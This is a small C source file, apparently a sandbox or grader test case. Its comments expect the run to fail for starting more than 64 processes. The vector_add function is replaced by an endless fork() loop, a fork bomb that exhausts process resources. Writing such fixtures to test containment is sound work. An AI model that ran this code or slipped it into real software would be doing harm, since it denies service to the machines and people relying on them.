// Every process starts two more.
// ends: failed
// because: started more than 64 processes
// suspicion: processes
#include <unistd.h>

#include "vector_add.h"

void vector_add(const float*, const float*, float*, int) {
  for (;;) fork();
}
